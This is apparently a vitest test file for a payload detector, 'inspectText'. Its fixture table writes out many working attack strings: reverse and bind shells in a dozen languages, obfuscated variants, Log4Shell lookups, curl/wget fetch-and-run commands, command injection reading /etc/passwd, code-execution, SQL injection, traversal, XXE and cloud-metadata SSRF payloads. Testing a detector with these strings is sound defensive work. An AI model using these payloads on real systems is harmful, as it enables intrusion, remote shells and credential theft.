// biome-ignore-all lint/suspicious/noTemplateCurlyInString: look-ups are spelt like that.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { inspectText } from './inspect-text.ts';
import type { Place } from './sign.ts';

const base64 = (text: string): string => Buffer.from(text).toString('base64');

/** family, callback as kind:host:port or '-', place, text */
const payloads: readonly (readonly [family: string, callback: string, place: Place, text: string])[] = [
  // Reverse shells, one of every tongue.
  ['reverse-shell', 'shell:35.217.6.162:3000', 'query', 'category=&&sh -i >& /dev/tcp/35.217.6.162/3000 0>&1'],
  ['reverse-shell', 'shell:35.217.6.162:3000', 'query', 'category=%26%26sh%20-i%20%3E%26%20%2Fdev%2Ftcp%2F35.217.6.162%2F3000%200%3E%261'],
  ['reverse-shell', 'shell:10.9.8.7:53', 'form', 'host=x;bash -c "exec 5<>/dev/udp/10.9.8.7/53;cat <&5"'],
  [
    'reverse-shell',
    'shell:10.0.0.1:4242',
    'query',
    `c=export RHOST="10.0.0.1";export RPORT=4242;python3 -c 'import sys,socket,os,pty;s=socket.socket();s.connect((os.getenv("RHOST"),int(os.getenv("RPORT"))));[os.dup2(s.fileno(),fd) for fd in (0,1,2)];pty.spawn("sh")'`,
  ],
  [
    'reverse-shell',
    'shell:10.0.0.1:4242',
    'query',
    `c=python -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("10.0.0.1",4242));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])'`,
  ],
  ['reverse-shell', 'shell:10.0.0.1:4242', 'query', 'ip=127.0.0.1;nc -e /bin/sh 10.0.0.1 4242'],
  ['reverse-shell', 'shell:10.0.0.1:4242', 'query', 'ip=127.0.0.1|ncat 10.0.0.1 4242 -e /bin/bash'],
  ['reverse-shell', 'shell:10.0.0.1:4242', 'query', 'ip=;busybox nc 10.0.0.1 4242 -e sh'],
  ['reverse-shell', 'shell:10.0.0.1:4242', 'query', 'ip=;rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 10.0.0.1 4242 >/tmp/f'],
  [
    'reverse-shell',
    'shell:evil.example.net:4242',
    'query',
    'ip=;rm -f /tmp/p; mknod /tmp/p p && telnet evil.example.net 4242 0</tmp/p | /bin/sh 1>/tmp/p',
  ],
  ['reverse-shell', 'shell:10.0.0.1:4242', 'query', "ip=;socat TCP:10.0.0.1:4242 EXEC:'bash -li',pty,stderr,setsid,sigint,sane"],
  [
    'reverse-shell',
    'shell:10.0.0.1:4242',
    'query',
    'ip=;mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 10.0.0.1:4242 > /tmp/s',
  ],
  [
    'reverse-shell',
    'shell:10.0.0.1:4242',
    'form',
    `c=perl -e 'use Socket;$i="10.0.0.1";$p=4242;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");exec("/bin/sh -i");};'`,
  ],
  [
    'reverse-shell',
    'shell:10.0.0.1:4242',
    'form',
    `c=ruby -rsocket -e'f=TCPSocket.open("10.0.0.1",4242).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'`,
  ],
  ['reverse-shell', 'shell:10.0.0.1:4242', 'form', `c=php -r '$sock=fsockopen("10.0.0.1",4242);exec("sh <&3 >&3 2>&3");'`],
  [
    'reverse-shell',
    'shell:10.0.0.1:4242',
    'form',
    `c=lua -e "require('socket');t=socket.tcp();t:connect('10.0.0.1','4242');os.execute('sh -i <&3 >&3 2>&3');"`,
  ],
  [
    'reverse-shell',
    'shell:10.0.0.1:4242',
    'form',
    `c=require('child_process').exec('x');var net = require("net");var client = new net.Socket();client.connect(4242, "10.0.0.1", function(){})`,
  ],
  [
    'reverse-shell',
    'shell:10.0.0.1:4242',
    'form',
    `c=awk 'BEGIN {s = "/inet/tcp/0/10.0.0.1/4242"; while(42) { do{ printf "shell>" |& s; s |& getline c; } while(c != "exit") }}'`,
  ],
  [
    'reverse-shell',
    'shell:10.0.0.1:8044',
    'form',
    `script=String host="10.0.0.1";int port=8044;String cmd="cmd.exe";Process p=new ProcessBuilder(cmd).start();Socket s=new Socket(host,port);`,
  ],
  [
    'reverse-shell',
    'shell:10.0.0.1:4242',
    'form',
    `c=echo 'package main;import"os/exec";import"net";func main(){c,_:=net.Dial("tcp","10.0.0.1:4242");cmd:=exec.Command("sh");cmd.Run()}'`,
  ],
  [
    'reverse-shell',
    'shell:10.0.0.1:4242',
    'form',
    `c=powershell -nop -c "$client = New-Object System.Net.Sockets.TCPClient('10.0.0.1',4242);$stream = $client.GetStream();"`,
  ],
  [
    'reverse-shell',
    'shell:10.0.0.1:4242',
    'form',
    `c=zsh -c 'zmodload zsh/net/tcp && ztcp 10.0.0.1 4242 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'`,
  ],
  ['bind-shell', '-', 'query', 'ip=;nc -lvp 4444 -e /bin/sh'],
  ['bind-shell', '-', 'query', 'ip=;socat TCP-LISTEN:4444,reuseaddr,fork EXEC:/bin/sh'],
  // The same, hidden.
  ['reverse-shell', 'shell:10.0.0.1:4242', 'query', `ip=;echo ${base64('bash -i >& /dev/tcp/10.0.0.1/4242 0>&1')}|base64 -d|bash`],
  [
    'reverse-shell',
    'shell:10.0.0.1:4242',
    'query',
    `ip=;echo ${Buffer.from('bash -i >& /dev/tcp/10.0.0.1/4242 0>&1').toString('hex')}|xxd -r -p|bash`,
  ],
  [
    'reverse-shell',
    'shell:10.0.0.1:4242',
    'query',
    `c=powershell -enc ${Buffer.from("$c = New-Object Net.Sockets.TCPClient('10.0.0.1',4242);$s=$c.GetStream()", 'utf16le').toString('base64')}`,
  ],
  ['reverse-shell', 'shell:10.0.0.1:4242', 'query', 'ip=%253Bnc%2520-e%2520%252Fbin%252Fsh%252010.0.0.1%25204242'],
  ['reverse-shell', 'shell:10.0.0.1:4242', 'query', 'ip=;nc${IFS}-e${IFS}/bin/sh${IFS}10.0.0.1${IFS}4242'],
  ['reverse-shell', 'shell:10.0.0.1:4242', 'query', "ip=;n'c' -e /bin/b\\ash 10.0.0.1 4242"],
  ['reverse-shell', 'shell:10.0.0.1:4242', 'query', 'ip=;bash+-i+>%26+/dev/tcp/167772161/4242+0>%261'],
  ['reverse-shell', 'shell:10.0.0.1:4242', 'query', 'ip=;bash -i >& /dev/tcp/0x0a.0.0.01/4242 0>&1'],
  ['reverse-shell', 'shell:10.0.0.1:4242', 'query', 'ip=\\x3bbash -i \\x3e& \\x2fdev\\x2ftcp\\x2f10.0.0.1\\x2f4242'],
  ['reverse-shell', 'shell:10.0.0.1:4242', 'body', '{"x":"\\u003bbash -i >& \\u002fdev\\u002ftcp/10.0.0.1/4242 0>&1"}'],
  ['reverse-shell', 'shell:10.0.0.1:4242', 'form', 'x=;bash -i &gt;&amp; &#47;dev&#x2f;tcp/10.0.0.1/4242 0&gt;&amp;1'],
  ['reverse-shell', 'shell:2001:db8::7:4242', 'query', 'ip=;bash -i >& /dev/tcp/[2001:db8::7]/4242'],
  // Log4Shell.
  ['look-up', 'look-up:203.0.113.217:1389', 'header', '${jndi:ldap://203.0.113.217:1389/a}'],
  [
    'look-up',
    'look-up:34.91.73.37:1389',
    'header',
    `\${\${::-j}\${::-n}\${::-d}\${::-i}:\${::-l}\${::-d}\${::-a}\${::-p}://34.91.73.37:1389/Basic/Command/Base64/${base64('ping -c 10 1.1.1.1')}}`,
  ],
  ['look-up', 'look-up:34.91.73.37:1099', 'header', '${${lower:jndi}:${lower:rmi}://34.91.73.37:1099/gp9pc7}'],
  ['look-up', 'look-up:x.example.org', 'header', '${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-d}ns:/x.example.org/a}'],
  ['look-up', 'look-up:203.0.113.9:1389', 'header', `Basic ${base64('attacker:${${lower:jndi}:ldap://203.0.113.9:1389/x}')}`],
  ['look-up', 'look-up:203.0.113.9:1389', 'query', 'q=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.9%3A1389%2Fa%7D'],
  ['look-up', 'look-up:203.0.113.9:1389', 'header', `\${jndi:\${base64:${base64('ldap://203.0.113.9:1389/a')}}}`],
  // Fetch and run.
  ['download', 'download:203.0.113.5', 'query', 'ip=;curl http://203.0.113.5/x.sh|sh'],
  ['download', 'download:203.0.113.5:8080', 'query', 'ip=$(wget -qO- http://203.0.113.5:8080/x.sh)'],
  ['download', 'download:203.0.113.5', 'query', 'cd /tmp;rm -rf *;wget http://203.0.113.5/jaws;sh /tmp/jaws'],
  [
    'download',
    'download:203.0.113.5',
    'form',
    'XWebPageName=diag&diag_action=ping&dest_host=`busybox wget http://203.0.113.5/gpon8080 -O /tmp/gaf;sh /tmp/gaf`',
  ],
  ['download', 'download:203.0.113.5', 'query', 'ip=;tftp -g -l mips -r mips 203.0.113.5;chmod 777 mips'],
  [
    'download',
    'download:files.example.net',
    'form',
    'c=powershell -c "IEX(New-Object Net.WebClient).DownloadString(\'http://files.example.net/a.ps1\')"',
  ],
  ['download', 'download:203.0.113.5', 'form', 'c=certutil.exe -urlcache -split -f http://203.0.113.5/a.exe a.exe'],
  // Commands.
  ['command', '-', 'query', 'category=&&whoami'],
  ['command', '-', 'query', 'ip=127.0.0.1;id'],
  ['command', '-', 'query', 'ip=127.0.0.1|cat /etc/passwd'],
  ['command', '-', 'query', 'ip=8.8.8.8 && ls -la'],
  ['command', '-', 'query', 'ip=$(id)'],
  ['command', '-', 'query', 'ip=`uname -a`'],
  ['command', '-', 'query', "ip=;w'h'o'am'i"],
  ['command', '-', 'query', 'ip=;{cat,/etc/passwd}'],
  ['command', '-', 'query', 'ip=%0awhoami'],
  ['command', 'ping:203.0.113.5', 'query', 'ip=;ping -c 3 203.0.113.5'],
  ['command', 'name:abc.oast.example', 'query', 'ip=;nslookup abc.oast.example'],
  ['command', '-', 'header', '() { :;}; echo; /bin/cat /etc/passwd'],
  // Code.
  ['code', '-', 'header', "%{(#nike='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}"],
  ['code', '-', 'path', '/%24%7B%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%7D/'],
  ['code', '-', 'header', 'T(java.lang.Runtime).getRuntime().exec("id")'],
  ['code', '-', 'form', 'class.module.classLoader.resources.context.parent.pipeline.first.pattern=x'],
  ['code', '-', 'query', 's=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=phpinfo'],
  ['code', '-', 'body', "<?php system($_GET['c']); ?>"],
  ['code', '-', 'query', '-d+allow_url_include%3don+-d+auto_prepend_file%3dphp://input'],
  ['code', '-', 'path', '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php'],
  [
    'code',
    '-',
    'body',
    '<p:ExecuteShellCommand_INPUT xmlns:p="http://schemas.dmtf.org/wbem/wscim/1/cim-schema/2/SCX_OperatingSystem"><p:command>id</p:command>',
  ],
  ['template', '-', 'query', 'name={{7*7}}'],
  // Data.
  ['traversal', '-', 'path', '/cgi-bin/.%2e/%2e%2e/%2e%2e/%2e%2e/bin/sh'],
  ['traversal', '-', 'path', '/cgi-bin/.2e/../../../../../../bin/sh'],
  ['traversal', '-', 'path', '/static/..%c0%af..%c0%afetc/passwd'],
  ['traversal', '-', 'query', 'page=../../../../etc/passwd'],
  ['traversal', '-', 'query', 'file=..\\..\\..\\windows\\win.ini'],
  ['traversal', '-', 'query', 'file=/etc/passwd'],
  ['sql', '-', 'query', "id=1'+and+1=1+union+select+database(),+user()#&Submit=Submit"],
  ['sql', '-', 'query', "id=1' or '1'='1"],
  ['sql', '-', 'query', 'id=-1 UNION ALL SELECT NULL,NULL,NULL-- -'],
  ['sql', '-', 'query', 'id=1%20AND%20SLEEP(5)'],
  ['sql', '-', 'query', "id=1';WAITFOR DELAY '0:0:5'--"],
  ['sql', '-', 'query', "id=1'/**/uNiOn/**/SeLeCt/**/1,2,3--+"],
  ['sql', '-', 'form', "user=admin'--&pass=x"],
  ['sql', '-', 'query', 'id=1) AND 5526=5526 AND (4321=4321'],
  ['sql', '-', 'query', 'id=1;DROP TABLE users'],
  ['sql', '-', 'query', 'id=1 or 1=1'],
  ['sql', '-', 'query', 'a=b&item.id=12 and 7=8'],
  ['sql', '-', 'query', 'id=5 order by 3--'],
  ['sql', '-', 'query', 'id=-5 union select user,password from users'],
  ['external-entity', 'fetch:203.0.113.5', 'body', '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "http://203.0.113.5/e.dtd">]>'],
  ['external-entity', '-', 'body', '<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'],
  ['request-forgery', '-', 'query', 'url=http://169.254.169.254/latest/meta-data/iam/security-credentials/'],
  ['request-forgery', '-', 'query', 'url=http%3A%2F%2Fmetadata.google.internal%2FcomputeMetadata%2Fv1%2F'],
  ['script', '-', 'query', 'q=<script>alert(1)</script>'],
];

describe('inspectText finds payloads', () => {
  it.each(payloads)('%s %s in a %s: %s', (family, callback, place, text) => {
    const signs = inspectText(text, place);
    expect(signs.map((sign) => sign.family)).toContain(family);
    if (callback === '-') return;
    const callbacks = signs.flatMap((sign) => (sign.callback ? [sign.callback] : []));
    expect(callbacks.map(({ kind, host, port }) => [kind, host, ...(port === undefined ? [] : [port])].join(':'))).toContain(callback);
  });

  it('tells which steps of decoding it took, and shows the text that it judged', () => {
    const [sign] = inspectText('ip=%3Becho%20YmFzaCAtaSA%2BJiAvZGV2L3RjcC8xMC4wLjAuMS80MjQyIDA%2BJjE%3D%7Cbase64%20-d%7Cbash', 'query');
    expect(sign).toMatchObject({ decodedSnippet: 'bash -i >& /dev/tcp/10.0.0.1/4242 0>&1', steps: ['percent', 'base64'] });
  });

  it('says the same again of a text that it remembers, and of each place its own', () => {
    const text = 'id=1;wget http://10.0.0.1/a -O /tmp/a;/tmp/a';
    const [query, body] = [inspectText(text, 'query'), inspectText(text, 'body')];
    expect(query.map(({ technique }) => technique)).toContain('chained download');
    expect(body.map(({ technique }) => technique)).not.toContain('chained download');
    for (let i = 0; i < 5000; i++) inspectText(`ordinary text ${i}`, 'query');
    expect([inspectText(text, 'query'), inspectText(text, 'query'), inspectText(text, 'body')]).toEqual([query, query, body]);
  });

  it('says the same of a text as sent and as Zeek decodes it', () => {
    const decoded =
      'category=&&export RHOST="35.217.6.162";export RPORT=3000;python3 -c \'import socket,os;s=socket.socket();s.connect((os.getenv("RHOST"),int(os.getenv("RPORT"))))\'';
    const sent = `category=${encodeURIComponent(decoded.slice('category='.length))}`;
    const facts = (text: string): unknown => inspectText(text, 'query').map(({ steps, ...sign }) => sign);
    expect(facts(sent)).toEqual(facts(decoded));
  });
});

describe('inspectText is bounded', () => {
  const hostile: Record<string, string> = {
    percent: '%25'.repeat(1365),
    lookups: '${'.repeat(2048),
    'closed look-ups': `${'${a:-'.repeat(680)}${'}'.repeat(680)}`,
    blanks: `union${' '.repeat(4080)}x`,
    dots: '../'.repeat(1365),
    'bash words': 'nc -e '.repeat(682),
    quotes: "' or ".repeat(819),
    base64: 'QUFB'.repeat(1024),
    assignments: 'a=$a;'.repeat(819),
    hosts: 'a.'.repeat(2048),
    urls: 'curl http://a.a '.repeat(256),
    options: `curl ${'-a '.repeat(1360)}`,
    brackets: '{a,'.repeat(1365),
    'shell functions': '() {'.repeat(1024),
    mixed: `;curl -${'a'.repeat(60)} `.repeat(60),
    numbers: `${'1'.repeat(20)} or `.repeat(170),
  };
  // Milliseconds each; what is not linear would take minutes.
  it.each(Object.entries(hostile))('8 KB of %s end in time', { timeout: 2000 }, (_name, text) => {
    for (const place of ['path', 'query', 'form', 'body', 'header'] as const) inspectText(text.repeat(2).slice(0, 8192), place);
  });

  it('never throws, whatever the text', () => {
    fc.assert(fc.property(fc.string({ unit: 'binary', maxLength: 400 }), (text) => Array.isArray(inspectText(text, 'query'))));
    const hotUnits = [
      '%',
      '2',
      '7',
      "'",
      '${',
      '}',
      ':-',
      ';',
      '|',
      '&&',
      'nc ',
      '/dev/tcp/',
      '1',
      '.',
      '\\x',
      '\\u',
      '+',
      '=',
      '$(',
      '`',
      ' ',
    ];
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...hotUnits), { maxLength: 200 }), (units) =>
        Array.isArray(inspectText(units.join(''), 'form')),
      ),
    );
  });
});
